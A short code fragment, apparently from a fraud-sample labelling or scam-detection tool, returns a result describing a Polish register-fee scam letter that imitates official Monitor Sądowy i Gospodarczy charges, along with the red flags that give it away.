    return Result(raw, info, "Register scam in Polish: 'call for payment' for a publication that imitates the official Monitor Sądowy i Gospodarczy fee, with a Polish payment QR code (ZBP format).",
                  "Private company with an official-sounding name, uses KRS data, 'Wezwanie do zapłaty' wording, 7-day term, small print admits it is an offer; official KRS fees are paid at filing, not on invitation.",
                  qr=[qrp])
